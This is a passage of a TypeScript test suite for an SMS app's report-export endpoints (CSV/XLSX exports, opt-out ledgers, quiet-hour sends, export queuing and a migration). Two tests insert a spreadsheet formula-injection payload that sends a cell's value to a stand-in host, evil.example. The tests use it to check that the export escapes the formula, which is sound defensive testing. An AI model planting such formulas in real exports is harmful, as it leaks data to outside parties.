    const read = await rooms.db.query<{ details: Record<string, unknown> }>(
      `SELECT details FROM access_log WHERE action = 'needs-reply.view' ORDER BY id DESC LIMIT 1`,
    )
    expect(read.rows[0]!.details).toMatchObject({ at, number: DESK.number, thresholdMinutes: 15 })
  })

  /** The export.done entries of one desk report, oldest first. */
  const exportsDone = async (what: string) => {
    await rooms.access.flush()
    const r = await rooms.db.query<{ details: Record<string, unknown> }>(`SELECT details FROM access_log WHERE action = $1 ORDER BY id`, [
      `${what}.export.done`,
    ])
    return r.rows.map((x) => x.details)
  }

  it('exports the whole queue as CSV in keyset batches, in the order of the queue, named and logged with its row count', async () => {
    // Batches of 3 rows: the queue below crosses several keyset boundaries.
    DESK_EXPORT.batch = 3
    try {
      for (const [q, scope] of [
        [`at=${AT}&number=${DESK.number}`, DESK.number],
        [`at=${AT}&thresholdMinutes=0`, 'all-numbers'],
      ] as const) {
        const json = await get(`/api/desk/needs-reply?${q}&limit=500`)
        const total = json.total as number
        expect(total).toBeGreaterThan(DESK_EXPORT.batch)
        expect(json.rows).toHaveLength(total)
        const r = await call(port(), 'GET', `/api/desk/needs-reply/export?${q}`)
        expect(r.status, r.text).toBe(200)
        expect(r.headers['content-type']).toBe('text/csv; charset=utf-8')
        // contract/file-name.ts's shape: report, scope, rows, and the day the queue was judged at.
        expect(r.headers['content-disposition']).toBe(
          `attachment; filename="switchboard-needs-reply-${scope}-${total}-rows-2026-11-20.csv"`,
        )
        expect(r.headers['x-row-count']).toBe(String(total))
        const rows = parseCsv(r.text)
        expect(rows[0]).toEqual([
          'customer',
          'number',
          'waiting_since',
          'waited_minutes',
          'unanswered',
          'last_inbound_at',
          'last_inbound_text',
          'opted_out',
        ])
        expect(rows.slice(1).map((x) => [x[0], x[1], x[2], x[6], x[7]])).toEqual(
          json.rows.map((x) => [x.party, x.number, x.since, (x.lastInbound as { body: string }).body, x.optedOut ? 'yes' : 'no']),
        )
        const done = (await exportsDone('needs-reply')).at(-1)
        // The moment the queue was judged at goes into both entries: the read's and its .done.
        expect(done).toMatchObject({ format: 'csv', rows: rows.length - 1, complete: true, at: new Date(AT).toISOString() })
        expect(done?.number).toBe(scope === 'all-numbers' ? undefined : DESK.number)
      }
    } finally {
      DESK_EXPORT.batch = 1000
    }
    await rooms.access.flush()
    const log = await rooms.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM access_log WHERE action = 'needs-reply.export'`)
    expect(log.rows[0]!.n).toBe(2)
  })

  it('exports the queue as .xlsx on asking: the CSV columns and rows, text ids and phones, date cells, a frozen header, logged as xlsx', async () => {
    DESK_EXPORT.batch = 3
    try {
      const q = `at=${AT}&thresholdMinutes=0&tz=Europe/Paris`
      const csv = parseCsv((await call(port(), 'GET', `/api/desk/needs-reply/export?${q}`)).text)
      const r = await fetch(`http://127.0.0.1:${port()}/api/desk/needs-reply/export?${q}&format=xlsx`)
      expect(r.status).toBe(200)
      expect(r.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
      expect(r.headers.get('content-disposition')).toMatch(
        /^attachment; filename="switchboard-needs-reply-all-numbers-\d+-rows-2026-11-20\.xlsx"$/,
      )
      const sheet = readXlsx(new Uint8Array(await r.arrayBuffer()))
      expect(sheet.frozenHeader).toBe(true)
      expect(csv.length).toBeGreaterThan(DESK_EXPORT.batch + 1)
      expect(sheet.rows).toHaveLength(csv.length)
      expect(sheet.rows[0]!.map((c) => c.value)).toEqual(csv[0])
      sheet.rows.slice(1).forEach((row, k) => {
        const want = csv[k + 1]!
        const cell = (i: number) => row.find((c) => c.ref.startsWith(String.fromCharCode(65 + i)))
        // customer and number: text, whatever their digits.
        expect([cell(0)?.kind, cell(0)?.value, cell(1)?.kind, cell(1)?.value]).toEqual(['string', want[0], 'string', want[1]])
        // waiting_since (UTC, ISO) and its local twin: date cells of the same clock times.
        expect([cell(2)?.kind, serialToIso(cell(2)!.value)]).toEqual(['date', new Date(want[2]!).toISOString()])
        expect([cell(8)?.kind, serialToIso(cell(8)!.value).slice(0, 19).replace('T', ' ')]).toEqual(['date', want[8]])
        expect([cell(3)?.kind, cell(3)?.value]).toEqual(['number', want[3]])
        if (want[6]) expect([cell(6)?.kind, cell(6)?.value]).toEqual(['string', want[6]])
      })
      expect(sheet.rows.flat().some((c) => c.kind === 'formula')).toBe(false)
      expect((await exportsDone('needs-reply')).at(-1)).toMatchObject({ format: 'xlsx', rows: csv.length - 1, complete: true })
      const bad = await call(port(), 'GET', `/api/desk/needs-reply/export?${q}&format=pdf`)
      expect([bad.status, bad.json().error?.field]).toEqual([400, 'format'])
    } finally {
      DESK_EXPORT.batch = 1000
    }
  })

  it('exports every send after opt-out with both messages, and the whole ledger, in batches, guarded, and logged', async () => {
    const ledger = optOutLedger(all)
    const sent = ledger.flatMap((e) => e.sentAfter.map((s) => ({ e, s })))
    expect(sent.length).toBeGreaterThan(3)
    // The page's read without a limit: every page of it, in its order.
    const pageRead = async (q: string) => {
      const rows: Array<Record<string, unknown>> = []
      for (let page = 0; ; page++) {
        const body = await get(`/api/desk/sent-after-opt-out?limit=500&offset=${page * 500}${q}`)
        rows.push(...body.rows)
        if (body.rows.length < 500) return rows
      }
    }
    const csv = async (path: string) => {
      const r = await call(port(), 'GET', path)
      expect(r.status, r.text).toBe(200)
      expect(r.headers['content-type']).toBe('text/csv; charset=utf-8')
      const rows = parseCsv(r.text)
      expect(Number(r.headers['x-row-count'])).toBe(rows.length - 1)
      return { name: String(r.headers['content-disposition']), header: rows[0]!, rows: rows.slice(1) }
    }
    // A promotion whose text a spreadsheet would run as a formula.
    const promo = (await get(`/api/desk/sent-after-opt-out?number=${DESK.number}&party=${DESK_PARTIES.stopThenPromo}`)).rows[0]!
    const ordinal = (promo.message as { ordinal: number }).ordinal
    const formula = '=HYPERLINK("https://evil.example/?x="&A1,"Weekend sale")'
    const old = await rooms.db.query<{ body: string | null; body_id: number | null }>(
      'SELECT body, body_id FROM index_messages WHERE number = $1 AND ordinal = $2',
      [DESK.number, ordinal],
    )
    await rooms.db.query('UPDATE index_messages SET body = $3, body_id = NULL WHERE number = $1 AND ordinal = $2', [
      DESK.number,
      ordinal,
      formula,
    ])
    // Batches of 3 rows, so every export below crosses several keyset boundaries.
    DESK_EXPORT.batch = 3
    try {
      const all_ = await csv('/api/desk/sent-after-opt-out/export')
      // contract/file-name.ts keeps names to 60 characters: the day is the first thing to go (a larger count leaves no room).
      expect(all_.name).toMatch(
        new RegExp(`^attachment; filename="switchboard-sent-after-opt-out-all-numbers-${sent.length}-rows(-\\d{4}-\\d{2}-\\d{2})?\\.csv"$`),
      )
      expect(all_.header).toEqual([
        'number',
        'customer',
        'opt_out_at',
        'opt_out_text',
        'sent_at',
        'sent_text',
        'status',
        'status_raw',
        'failed',
        'minutes_after_opt_out',
        'opt_out_ordinal',
        'sent_ordinal',
      ])
      expect(all_.rows).toHaveLength(sent.length)
      const key = (n: unknown, o: unknown) => `${partyKey(String(n))}#${String(o)}`
      expect(all_.rows.map((r) => key(r[0], r[11])).sort()).toEqual(
        sent.map(({ e, s }) => key(e.number, (s.message as Msg).ordinal)).sort(),
      )
      // In the page's order, with both messages as the page shows them.
      const read = await pageRead('')
      expect(all_.rows.map((r) => [r[0], r[1], r[2], r[3], r[4], r[5], r[10], r[11]])).toEqual(
        read.map((x) => {
          const m = x.message as { ordinal: number; date: string; body: string }
          const o = x.optOut as { ordinal: number; date: string; body: string }
          return [
            x.number,
            x.party,
            o.date,
            o.body,
            m.date,
            m.body === formula ? `'${formula}` : m.body,
            String(o.ordinal),
            String(m.ordinal),
          ]
        }),
      )
      expect(all_.rows.filter((r) => r[5] === `'${formula}`)).toHaveLength(1)
      // The status is one of the exports' three words, matching failed; the upstream's text is beside it.
      for (const r of all_.rows) {
        expect(['success', 'error', 'unknown']).toContain(r[6])
        expect(r[6] === 'error').toBe(r[8] === 'yes')
        if (r[6] === 'success') expect(r[7]).toMatch(/^2\d\d/)
      }
      expect(all_.rows.some((r) => r[5] === formula)).toBe(false)

      // The page's filters: one number, one customer typed in another format.
      const p = DESK_PARTIES.stopThenPromo
      const one = await csv(
        `/api/desk/sent-after-opt-out/export?number=${DESK.number}&party=${encodeURIComponent(`(${p.slice(1, 4)}) ${p.slice(4, 7)}-${p.slice(7)}`)}`,
      )
      expect(one.rows.map((r) => [r[1], r[3], r[5]])).toEqual([[p, 'STOP', `'${formula}`]])
      const desk = await csv(`/api/desk/sent-after-opt-out/export?number=${DESK.number}`)
      expect(desk.rows).toHaveLength(sent.filter(({ e }) => partyKey(e.number) === DESK.number).length)

      // The ledger: every customer with an opt-out history, per state.
      for (const [state, expected] of [
        ['', ledger],
        ['opted-out', ledger.filter((e) => e.optedOut)],
        ['opted-in', ledger.filter((e) => !e.optedOut)],
      ] as const) {
        const out = await csv(`/api/desk/opt-outs/export${state ? `?state=${state}` : ''}`)
        expect(out.header).toEqual(['number', 'customer', 'state', 'opted_out_since', 'sent_after_opt_out', 'history'])
        expect(out.rows.map((r) => `${r[0]}|${r[1]}`).sort()).toEqual(expected.map((e) => `${partyKey(e.number)}|${e.party}`).sort())
        if (state) expect(new Set(out.rows.map((r) => r[2]))).toEqual(new Set([state]))
        expect(out.rows.reduce((a, r) => a + Number(r[4]), 0)).toBe(expected.reduce((a, e) => a + e.sentAfter.length, 0))
      }
      const deskLedger = await csv(`/api/desk/opt-outs/export?number=${DESK.number}`)
      const deskRows = ledger.filter((e) => partyKey(e.number) === DESK.number).length
      expect(deskLedger.name).toBe(`attachment; filename="switchboard-opt-outs-${DESK.number}-all-${deskRows}-rows-${today()}.csv"`)
      const stopStart = deskLedger.rows.find((r) => r[1] === DESK_PARTIES.stopStart)!
      expect(stopStart[2]).toBe('opted-in')
      expect(stopStart[5]!.split('; ')).toHaveLength(2)
    } finally {
      DESK_EXPORT.batch = 1000
      await rooms.db.query('UPDATE index_messages SET body = $3, body_id = $4 WHERE number = $1 AND ordinal = $2', [
        DESK.number,
        ordinal,
        old.rows[0]!.body,
        old.rows[0]!.body_id,
      ])
    }
    for (const [action, n] of [
      ['sent-after-opt-out.export', 3],
      ['opt-outs.export', 4],
    ] as const) {
      await rooms.access.flush()
      const log = await rooms.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM access_log WHERE action = $1`, [action])
      expect(log.rows[0]!.n, action).toBe(n)
    }
    // Each export's second entry: the rows that went out, which are the rows the rules expect.
    const ledgerOf = (state: string) => ledger.filter((e) => state === 'all' || (state === 'opted-out') === e.optedOut)
    expect((await exportsDone('sent-after-opt-out')).map((d) => [d.number ?? null, d.party ?? null, d.rows, d.complete])).toEqual([
      [null, null, sent.length, true],
      // The customer as typed, (917) 555-…: its digits without the 1.
      [DESK.number, DESK_PARTIES.stopThenPromo.slice(1), 1, true],
      [DESK.number, null, sent.filter(({ e }) => partyKey(e.number) === DESK.number).length, true],
    ])
    expect((await exportsDone('opt-outs')).map((d) => [d.number ?? null, d.state, d.rows, d.complete])).toEqual([
      [null, 'all', ledgerOf('all').length, true],
      [null, 'opted-out', ledgerOf('opted-out').length, true],
      [null, 'opted-in', ledgerOf('opted-in').length, true],
      [DESK.number, 'all', ledgerOf('all').filter((e) => partyKey(e.number) === DESK.number).length, true],
    ])
    for (const [path, field] of [
      ['/api/desk/sent-after-opt-out/export?party=abc', 'party'],
      ['/api/desk/sent-after-opt-out/export?number=12', 'number'],
      ['/api/desk/sent-after-opt-out/export?limit=5', 'limit'],
      ['/api/desk/opt-outs/export?state=maybe', 'state'],
      ['/api/desk/opt-outs/export?offset=1', 'offset'],
    ] as const) {
      const r = await call(port(), 'GET', path)
      expect(r.status, `${path}: ${r.text}`).toBe(400)
      expect(r.json().error).toMatchObject({ kind: 'invalid_request', field })
    }
  })

  it('exports every quiet-hour send of a number, past the 500 the page lists, in batches, guarded, and logged', async () => {
    const n0 = account.numbers[0]!
    const expected = quietHourSends(all.filter((m) => m.number === n0.number))
    // More than the page lists (DESK_MAX_ROWS): the export is the only way to the older ones.
    expect(expected.length).toBeGreaterThan(500)
    const page = await get(`/api/desk/quiet-hours?number=${n0.number}&limit=500`)
    expect(page.quiet).toBe(expected.length)
    expect(page.rows).toHaveLength(500)
    // A quiet send whose text a spreadsheet would run as a formula.
    const target = page.rows[3]!.ordinal as number
    const formula = '=HYPERLINK("https://evil.example/?x="&A1,"Good night")'
    const old = await rooms.db.query<{ body: string | null; body_id: number | null }>(
      'SELECT body, body_id FROM index_messages WHERE number = $1 AND ordinal = $2',
      [n0.number, target],
    )
    await rooms.db.query('UPDATE index_messages SET body = $3, body_id = NULL WHERE number = $1 AND ordinal = $2', [
      n0.number,
      target,
      formula,
    ])
    DESK_EXPORT.batch = 97
    try {
      const r = await call(port(), 'GET', `/api/desk/quiet-hours/export?number=${n0.number}`)
      expect(r.status, r.text.slice(0, 300)).toBe(200)
      expect(r.headers['content-type']).toBe('text/csv; charset=utf-8')
      expect(r.headers['x-row-count']).toBe(String(expected.length))
      expect(r.headers['content-disposition']).toBe(
        `attachment; filename="switchboard-quiet-hours-${n0.number}-${expected.length}-rows-${today()}.csv"`,
      )
      const [header, ...rows] = parseCsv(r.text)
      expect(header).toEqual([
        'number',
        'customer',
        'sent_at',
        'customer_local_day',
        'customer_local_time',
        'customer_zone',
        'text',
        'ordinal',
      ])
      expect(rows).toHaveLength(expected.length)
      // Why each counts: the customer's local time (outside 8:00–21:00) and zone, as the rule computes them.
      for (const x of rows) {
        const local = localTime(x[1]!, x[2]!)!
        expect(x[5]).toBe(local.zone)
        expect(x[4]!.slice(0, 16)).toBe(`${local.day}T${String(local.hour).padStart(2, '0')}:${String(local.minute).padStart(2, '0')}`)
        expect(Date.parse(x[4]!)).toBe(Math.floor(Date.parse(x[2]!) / 60_000) * 60_000)
        expect(local.hour < 8 || local.hour >= 21).toBe(true)
      }
      // Every quiet send once, newest first, the page's 500 first and in the page's order.
      expect(rows.map((x) => Number(x[7])).sort((a, b) => a - b)).toEqual(
        expected.map((q) => (q.message as Msg).ordinal).sort((a, b) => a - b),
      )
      expect(rows.slice(0, 500).map((x) => [x[1], x[2], x[3], Number(x[7])])).toEqual(
        page.rows.map((x) => [x.party, x.date, x.localDay, x.ordinal]),
      )
      const day = new Map(expected.map((q) => [(q.message as Msg).ordinal, q.local.day]))
      expect(rows.every((x) => x[0] === n0.number && day.get(Number(x[7])) === x[3])).toBe(true)
      expect(rows.find((x) => Number(x[7]) === target)![6]).toBe(`'${formula}`)
      expect(rows.some((x) => x[6] === formula)).toBe(false)

      // The page's range: the report's own count over those days.
      const first = expected.map((q) => q.local.day).sort()[0]!
      const fromDay = rows[Math.floor(rows.length / 2)]![2]!.slice(0, 10)
      const ranged = await get(`/api/desk/quiet-hours?number=${n0.number}&from=${first}&to=${fromDay}&limit=500`)
      const part = await call(port(), 'GET', `/api/desk/quiet-hours/export?number=${n0.number}&from=${first}&to=${fromDay}`)
      expect(part.status, part.text.slice(0, 300)).toBe(200)
      const partRows = parseCsv(part.text).slice(1)
      expect(partRows).toHaveLength(ranged.quiet as number)
      expect(partRows.every((x) => x[2]!.slice(0, 10) >= first && x[2]!.slice(0, 10) <= fromDay)).toBe(true)
    } finally {
      DESK_EXPORT.batch = 1000
      await rooms.db.query('UPDATE index_messages SET body = $3, body_id = $4 WHERE number = $1 AND ordinal = $2', [
        n0.number,
        target,
        old.rows[0]!.body,
        old.rows[0]!.body_id,
      ])
    }
    await rooms.access.flush()
    const reads = await rooms.db.query<{ details: Record<string, unknown> }>(
      `SELECT details FROM access_log WHERE action = 'quiet-hours.export' ORDER BY id`,
    )
    expect(reads.rows.map((x) => [x.details.number, x.details.rows])).toEqual([
      [n0.number, expected.length],
      [n0.number, expect.any(Number)],
    ])
    const done = await exportsDone('quiet-hours')
    expect(done.map((d) => [d.number, d.rows, d.complete, d.format])).toEqual([
      [n0.number, expected.length, true, 'csv'],
      [n0.number, reads.rows[1]!.details.rows, true, 'csv'],
    ])
    for (const [path, field] of [
      ['/api/desk/quiet-hours/export', 'number'],
      [`/api/desk/quiet-hours/export?number=${n0.number}&limit=5`, 'limit'],
      [`/api/desk/quiet-hours/export?number=${n0.number}&from=2026-11-20&to=2026-11-01`, 'to'],
    ] as const) {
      const bad = await call(port(), 'GET', path)
      expect(bad.status, `${path}: ${bad.text}`).toBe(400)
      expect(bad.json().error).toMatchObject({ kind: 'invalid_request', field })
    }
  })

  it("adds each date on the page's clock when the export names its zone (tz), at the end of the row", async () => {
    const AT = '2026-11-20T12:00:00Z'
    const zone = 'America/New_York'
    const r = await call(port(), 'GET', `/api/desk/needs-reply/export?number=${DESK.number}&at=${AT}&tz=${encodeURIComponent(zone)}`)
    expect(r.status, r.text).toBe(200)
    const [header, ...rows] = parseCsv(r.text)
    expect(header).toEqual([
      'customer',
      'number',
      'waiting_since',
      'waited_minutes',
      'unanswered',
      'last_inbound_at',
      'last_inbound_text',
      'opted_out',
      `waiting_since_local (${zone})`,
      `last_inbound_at_local (${zone})`,
    ])
    expect(rows.length).toBeGreaterThan(0)
    // New York's clock, worked out here from Intl for each UTC instant the file gives.
    const clock = (iso: string) =>
      new Intl.DateTimeFormat('sv-SE', {
        timeZone: zone,
        year: 'numeric',
        month: '2-digit',
        day: '2-digit',
        hour: '2-digit',
        minute: '2-digit',
        second: '2-digit',
      }).format(new Date(iso))
    for (const row of rows) {
      expect(row[8]).toBe(clock(row[2]!))
      expect(row[9]).toBe(clock(row[5]!))
    }
    // The other reports too: a column per date, in the zone asked for.
    const sent = parseCsv((await call(port(), 'GET', `/api/desk/sent-after-opt-out/export?tz=UTC`)).text)
    expect(sent[0]!.slice(-2)).toEqual(['opt_out_at_local (UTC)', 'sent_at_local (UTC)'])
    expect(sent[1]![12]).toBe(sent[1]![2]!.replace('T', ' ').replace(/(\.\d+)?Z$/, ''))
    const ledger = parseCsv((await call(port(), 'GET', `/api/desk/opt-outs/export?tz=UTC`)).text)
    expect(ledger[0]!.at(-1)).toBe('opted_out_since_local (UTC)')
    const quiet = parseCsv((await call(port(), 'GET', `/api/desk/quiet-hours/export?number=${DESK.number}&tz=UTC`)).text)
    expect(quiet[0]!.at(-1)).toBe('sent_at_local (UTC)')
  })

  it("waits a report export under the export limits, as the index's: a person's third waits its turn, the fifth is refused with Retry-After", async () => {
    const gate = rooms.index.exportGate!
    // Two exports of this person running (EXPORTS_PER_USER=2), as two history downloads would be.
    const held = [gate.enter('local'), gate.enter('local')]
    const path = `/api/desk/needs-reply/export?at=${AT}&number=${DESK.number}`
    try {
      expect(held.map((h) => h.place())).toEqual([null, null])
      const third = call(port(), 'GET', path)
      const fourth = call(port(), 'GET', path)
      await expect.poll(() => gate.waiting(), { timeout: 5_000 }).toBe(2)
      const fifth = await call(port(), 'GET', path)
      expect(fifth.status, fifth.text).toBe(429)
      expect(Number(fifth.headers['retry-after'])).toBeGreaterThan(0)
      // The running ones end: the waiting two run, whole.
      for (const h of held) h.leave()
      for (const answer of [await third, await fourth]) {
        expect(answer.status, answer.text).toBe(200)
        expect(answer.text.split('\r\n').filter(Boolean).length - 1).toBe(Number(answer.headers['x-row-count']))
      }
      expect(gate.running() + gate.waiting()).toBe(0)
    } finally {
      for (const h of held) h.leave()
    }
  })

  it('follows a report export the tray gave an id: its place in line, Cancel while it waits (409, logged), and a run to its end with rows, bytes and file name', async () => {
    const gate = rooms.index.exportGate!
    const progress = async (job: string) => {
      const r = await call(port(), 'GET', `/api/index/export/progress?job=${job}`)
      expect(r.status, r.text).toBe(200)
      return r.json() as Record<string, unknown>
    }
    const path = (job: string) => `/api/desk/opt-outs/export?number=${DESK.number}&job=${job}`
    const held = [gate.enter('local'), gate.enter('local')]
    try {
      // Both of this person's slots taken: the export waits, and its record says where.
      const waiting = call(port(), 'GET', path('desk-job-waiting'))
      await expect.poll(async () => (await progress('desk-job-waiting')).state, { timeout: 5_000 }).toBe('queued')
      expect(await progress('desk-job-waiting')).toMatchObject({ action: 'opt-outs.export', queue: { position: 1 }, rows: 0 })
      const cancel = await call(port(), 'POST', '/api/index/export/cancel', { json: { job: 'desk-job-waiting' } })
      expect(cancel.status, cancel.text).toBe(200)
      const answer = await waiting
      expect(answer.status, answer.text).toBe(409)
      expect(answer.json().error).toMatchObject({ field: 'job' })
      expect(await progress('desk-job-waiting')).toMatchObject({ state: 'cancelled', cancelledBy: 'you', rows: 0 })
      expect(gate.waiting()).toBe(0)
      await rooms.access.flush()
      const cancels = await rooms.db.query<{ number: string | null; details: Record<string, unknown> }>(
        `SELECT number, details FROM access_log WHERE action = 'opt-outs.export.cancel' ORDER BY id`,
      )
      // Named with what it was to read, as its start and end entries are.
      expect(cancels.rows.map((x) => [x.details.job, x.number])).toEqual([['desk-job-waiting', DESK.number]])
    } finally {
      for (const h of held) h.leave()
    }
    // A slot free: it runs to its end, in batches of 2, and the record counts what went out.
    DESK_EXPORT.batch = 2
    try {
      const whole = await call(port(), 'GET', path('desk-job-whole'))
      expect(whole.status, whole.text).toBe(200)
      const lines = whole.text.split('\r\n').filter(Boolean).length - 1
      expect(lines).toBeGreaterThan(2)
      const name = /filename="([^"]+)"/.exec(String(whole.headers['content-disposition']))![1]
      expect(await progress('desk-job-whole')).toMatchObject({
        state: 'done',
        action: 'opt-outs.export',
        rows: lines,
        total: lines,
        bytes: Buffer.byteLength(whole.text),
        fileName: name,
      })
      // A refusal before anything is sent reaches the record with its field.
      const bad = await call(port(), 'GET', `/api/desk/opt-outs/export?number=12&job=desk-job-bad`)
      expect(bad.status).toBe(400)
      expect(await progress('desk-job-bad')).toMatchObject({ state: 'failed', error: { kind: 'invalid_request', field: 'number' } })
      const badId = await call(port(), 'GET', `/api/desk/opt-outs/export?number=${DESK.number}&job=no`)
      expect(badId.status).toBe(400)
      expect(badId.json().error).toMatchObject({ field: 'job' })
    } finally {
      DESK_EXPORT.batch = 1000
    }
  })

  // PostgreSQL only: another session holds the ledger's table, so the export's count waits there.
  if (engine === 'postgres')
    it('a report export cancelled while it counts (its turn taken, nothing sent yet) sends nothing: 409, the record cancelled', async () => {
      const holder = new pg.Client({ connectionString: cluster!.url })
      await holder.connect()
      try {
        await holder.query('BEGIN')
        await holder.query('LOCK TABLE desk_threads IN ACCESS EXCLUSIVE MODE')
        const job = 'desk-job-counting'
        const answer = call(port(), 'GET', `/api/desk/opt-outs/export?number=${DESK.number}&job=${job}`)
        const progress = async () => (await call(port(), 'GET', `/api/index/export/progress?job=${job}`)).json() as Record<string, unknown>
        await expect.poll(async () => (await progress()).state, { timeout: 5_000 }).toBe('running')
        expect((await call(port(), 'POST', '/api/index/export/cancel', { json: { job } })).status).toBe(200)
        await holder.query('ROLLBACK')
        const got = await answer
        expect(got.status, got.text.slice(0, 200)).toBe(409)
        expect(got.json().error).toMatchObject({ field: 'job', message: 'This export was cancelled before it started.' })
        expect(await progress()).toMatchObject({ state: 'cancelled', cancelledBy: 'you', rows: 0 })
      } finally {
        await holder.query('ROLLBACK').catch(() => {})
        await holder.end()
      }
    })

  it('migration 400 merges a party stored both with and without the leading 1, as a sync now stores it', async () => {
    const db = rooms.db
    // The routes first: a desk read recomputes the threads marked for it (desk_dirty) before answering.
    const snapshot = async () => ({
      queue: (await get(`/api/desk/needs-reply?at=${AT}&number=${DESK.number}&limit=500`)).rows,
      ledger: (await get(`/api/desk/opt-outs?number=${DESK.number}&limit=500`)).rows,
      parties: (await db.query('SELECT party, count, last_date FROM index_parties WHERE number = $1 ORDER BY party', [DESK.number])).rows,
      threads: (
        await db.query(
          `SELECT party, first_at, last_at, inbound, outbound, waiting_since, unanswered, opted_out, opt_history, sent_after
             FROM desk_threads WHERE number = $1 ORDER BY party`,
          [DESK.number],
        )
      ).rows,
      evidence: (await get(`/api/desk/sent-after-opt-out?number=${DESK.number}&limit=500`)).rows,
      periods: (
        await db.query(
          'SELECT party, opt_ordinal, end_ordinal, confirmation, sends FROM desk_opt_periods WHERE number = $1 ORDER BY party, opt_ordinal',
          [DESK.number],
        )
      ).rows,
    })
    const keys = [DESK_PARTIES.bothWaysAnswered, DESK_PARTIES.bothWaysStop]
    const tens = keys.map((k) => k.slice(1))
    const want = await snapshot()
    expect(want.threads.map((t) => t.party)).toEqual(expect.arrayContaining(keys))

    // The rows as a version before the key stored them: the party as written, two threads each.
    await db.query(
      `UPDATE index_messages SET party_digits = regexp_replace(phone, '\\D', '', 'g') WHERE number = $1 AND regexp_replace(phone, '\\D', '', 'g') = ANY($2::text[])`,
      [DESK.number, tens],
    )
    await db.query('DELETE FROM index_parties WHERE number = $1', [DESK.number])
    await db.query(
      'INSERT INTO index_parties (number, party, count, last_date) SELECT number, party_digits, count(*), max(date) FROM index_messages WHERE number = $1 GROUP BY 1, 2',
      [DESK.number],
    )
    // Its threads as its sync step kept them: counted by the party as written (storeDeskFacts),
    // then recomputed (the order-dependent state).
    await db.query('DELETE FROM desk_threads WHERE number = $1 AND party = ANY($2::text[])', [DESK.number, keys])
    await db.query(
      `INSERT INTO desk_threads (number, party, first_at, last_at, inbound, outbound, failed)
       SELECT number, party_digits, min(date), max(date), count(*) FILTER (WHERE desk_inbound), count(*) FILTER (WHERE NOT desk_inbound),
              count(*) FILTER (WHERE status_code >= 400)
         FROM index_messages WHERE number = $1 AND party_digits = ANY($2::text[]) GROUP BY 1, 2`,
      [DESK.number, [...keys, ...tens]],
    )
    await refreshDesk(db, DESK.number, [...keys, ...tens])
    const aged = await snapshot()
    expect(aged.parties.map((p) => p.party)).toEqual(expect.arrayContaining([...keys, ...tens]))
    // The fault the key removes: the answered customer waits under the form they wrote.
    expect(aged.queue.map((r) => r.party)).toContain(tens[0])
    // "Mark handled" on both forms: the later one is kept.
    await db.query(
      `INSERT INTO desk_handled (number, party, handled_at, handled_by) VALUES ($1, $2, '2026-01-01T00:00:00Z', 'older'), ($1, $3, '2026-02-01T00:00:00Z', 'later')`,
      [DESK.number, keys[1], tens[1]],
    )

    const sql = readFileSync(join(MIGRATIONS_DIR, '400-party-key.sql'), 'utf8')
    // Migration 400 also cleans desk_sent_after, which migration 500 replaced: the tables as they
    // stood then (desk_opt_periods, which came later, holds nothing of a form 400 merges).
    await db.query('CREATE TABLE desk_sent_after (number text NOT NULL, party text NOT NULL)')
    await db.query('DELETE FROM desk_opt_periods WHERE number = $1 AND party = ANY($2::text[])', [DESK.number, tens])
    await (db as unknown as MigratableDb).transaction((tx) => tx.exec(sql))
    await db.query('DROP TABLE desk_sent_after')
    const after = await snapshot()
    expect(after).toEqual(want)
    const handled = await db.query('SELECT party, handled_by FROM desk_handled WHERE number = $1 AND party = ANY($2::text[])', [
      DESK.number,
      [...keys, ...tens],
    ])
    expect(handled.rows).toEqual([{ party: keys[1], handled_by: 'later' }])
    await db.query('DELETE FROM desk_handled WHERE number = $1 AND party = $2', [DESK.number, keys[1]])
    await refreshDesk(db, DESK.number, [keys[1]!])
    expect(await snapshot()).toEqual(want)
  })

  it('shows nothing of a forgotten number, and forgetDesk deletes its rows', async () => {
    const r = await call(port(), 'POST', '/api/index/forget', { json: { number: DESK.number } })
    expect(r.status, r.text).toBe(200)
    expect((await get(`/api/desk/customer?party=${DESK_PARTIES.wait3d}`)).numbers).toEqual([])
    expect((await get(`/api/desk/opt-outs?number=${DESK.number}`)).rows).toEqual([])
    expect((await get(`/api/desk/quiet-hours?number=${DESK.number}`)).quiet).toBe(0)
    expect((await get(`/api/desk/segments?number=${DESK.number}`)).days).toEqual([])
    expect((await get(`/api/desk/needs-reply?at=${AT}&number=${DESK.number}`)).rows).toEqual([])
    expect((await get(`/api/desk/sent-after-opt-out?number=${DESK.number}`)).rows).toEqual([])
    await rooms.db.transaction((tx) => forgetDesk(tx, DESK.number))
    for (const table of ['desk_messages', 'desk_segment_days', 'desk_threads', 'desk_opt_periods', 'desk_dirty', 'desk_handled']) {
      const left = await rooms.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM ${table} WHERE number = $1`, [DESK.number])
      expect(left.rows[0]!.n, table).toBe(0)
    }
    // The other number's desk is untouched.
    expect(((await get(`/api/desk/segments?number=${account.numbers[0]!.number}`)).days as unknown[]).length).toBeGreaterThan(0)
  })

  it('catches up from empty desk tables with refreshAllDesk, then finds nothing lagging', async () => {
    const n0 = account.numbers[0]!
    const before = await get(`/api/desk/opt-outs?number=${n0.number}&limit=500`)
    // The index as stored while the desk was off: messages without their desk facts, no desk rows.
    await rooms.db.query(
      `UPDATE index_messages SET desk_inbound = NULL, desk_opt = NULL, desk_segments = NULL, desk_forcing = NULL,
         desk_extra = NULL, desk_local_day = NULL, desk_quiet = NULL`,
    )
    await rooms.db.query('UPDATE index_numbers SET desk_behind = true')
    await rooms.db.query('TRUNCATE desk_quiet_days, desk_segment_days, desk_threads, desk_opt_periods, desk_dirty')
    expect(await refreshAllDesk(rooms.db)).toMatchObject({ messages: n0.baseTotal })
    expect(await get(`/api/desk/opt-outs?number=${n0.number}&limit=500`)).toEqual(before)
    expect(await refreshAllDesk(rooms.db)).toEqual({ messages: 0, threads: 0 })
  })

  it('answered the routes it declares as contract/desk/desk-api.ts describes them', () => {
    expect(answers.held.size).toBeGreaterThan(0)
    expect(answers.unheld('/api/desk')).toEqual([])
  })
})
